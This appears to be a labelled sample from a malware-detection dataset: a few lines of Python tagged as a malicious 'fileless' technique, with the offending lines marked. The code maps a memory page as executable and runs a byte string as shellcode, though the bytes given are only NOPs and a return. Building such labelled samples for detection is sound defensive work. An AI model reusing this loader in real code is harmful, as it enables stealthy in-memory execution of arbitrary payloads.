# label: malicious family=fileless techniques=T1106,T1620 lines=3,6-9
import ctypes
libc = ctypes.CDLL("libc.so.6")
sc = bytes.fromhex("9090909090c3")
size = 4096
p = libc.valloc(size)
ctypes.memmove(p, sc, len(sc))
libc.mprotect(p, size, 7)
ctypes.cast(p, ctypes.CFUNCTYPE(None))()
